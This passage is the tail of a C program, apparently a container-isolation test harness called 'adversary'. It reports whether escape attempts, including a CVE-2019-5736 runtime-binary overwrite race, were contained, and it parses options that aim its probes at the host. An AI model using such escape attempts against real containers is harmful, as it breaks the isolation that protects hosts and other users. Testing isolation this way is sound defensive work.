             seen_pids, targets[0] ? targets : "-", rdonly_mounts, immutable_files, writable_mounts, errs_erofs, errs_etxtbsy,
             errs_eacces, errs_other, opath_denied, self_w >= 0 ? "OPENED FOR WRITING" : en(self_err));
    stats = sb;
    if (wopen_ok || self_w >= 0)
        say("ATTEMPT cve-2019-5736-exe-overwrite ESCAPED %s; %s", example, stats);
    else if (writable_mounts)
        say("ATTEMPT cve-2019-5736-exe-overwrite ESCAPED %s: only ETXTBSY (the runtime still running) stood "
            "between it and a write; %s",
            example, stats);
    else if (seen_pids == 0)
        say("ATTEMPT cve-2019-5736-exe-overwrite ERROR the race was never observed; %s", stats);
    else
        say("ATTEMPT cve-2019-5736-exe-overwrite CONTAINED %s", stats);
    exit(0);
}

/* ---------------------------------------------------------------------------------------------- */

static void usage(void)
{
    say("usage: adversary [--self-test] [--only a,b] [--skip a,b] [--port N] [--abstract NAME]\n"
        "       [--host-hostname H] [--host-marker REVERSED] [--host-ns pid=I,mnt=I,...] [--shm-key K]\n"
        "       [--handle TYPE:HEX] [--handle-mount PATH] [--max-forks N] [--max-mem-mb N]\n"
        "       [--max-fds N] [--max-tmpfs-mb N] | --list | --race-exe SECONDS [--race-write]");
    exit(2);
}

int main(int argc, char **argv)
{
    /* before anything else opens a file: what was inherited */
    for (int fd = 3; fd < 1024 && n_inherited < MAX_INHERITED; fd++)
        if (fcntl(fd, F_GETFD) >= 0)
            inherited[n_inherited++] = fd;

    for (int i = 1; i < argc; i++) {
        const char *a = argv[i];
        const char *v = i + 1 < argc ? argv[i + 1] : NULL;
#define OPT(name) (!strcmp(a, name) && v && (i++, 1))
        if (!strcmp(a, "--self-test"))
            self_test = 1;
        else if (!strcmp(a, "--list")) {
            for (size_t k = 0; k < N_ATTEMPTS; k++)
                say("%s", ATTEMPTS[k].name);
            return 0;
        } else if (OPT("--port"))
            port = atoi(v);
        else if (OPT("--abstract"))
            abstract_name = v;
        else if (OPT("--host-hostname"))
            host_hostname = v;
        else if (OPT("--host-marker"))
            host_marker = v;
        else if (OPT("--host-ns"))
            host_ns = v;
        else if (OPT("--shm-key"))
            shm_key = strtol(v, NULL, 0);
        else if (OPT("--handle"))
            handle_spec = v;
        else if (OPT("--handle-mount"))
            handle_mount = v;
        else if (OPT("--only"))
            only = v;
        else if (OPT("--skip"))
            skip = v;
        else if (OPT("--max-forks"))
            max_forks = atol(v);
        else if (OPT("--max-mem-mb"))
            max_mem_mb = atol(v);
        else if (OPT("--max-fds"))
            max_fds = atol(v);
        else if (OPT("--max-tmpfs-mb"))
            max_tmpfs_mb = atol(v);
        else if (OPT("--race-exe"))
            race_seconds = atoi(v);
        else if (!strcmp(a, "--race-write"))
            race_write = 1;
        else
            usage();
#undef OPT
    }
    prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0);
    if (race_seconds > 0)
        race_exe();
    if (self_test && !only) {
        say("--self-test needs --only: it runs on the host");
        return 2;
    }
    struct utsname u;
    uname(&u);
    say("ADVERSARY BEGIN pid %d uid %d host %s mode %s", getpid(), getuid(), u.nodename,
        self_test ? "self-test" : "contained");
    for (size_t k = 0; k < N_ATTEMPTS; k++) {
        const struct attempt *a = &ATTEMPTS[k];
        if (only && !in_list(only, a->name))
            continue;
        if (skip && in_list(skip, a->name))
            continue;
        run_attempt(a);
    }
    say("SUMMARY %d contained, %d escaped, %d errors", contained_n, escaped_n, error_n);
    return escaped_n == 0 && error_n == 0 ? 0 : 1;
}
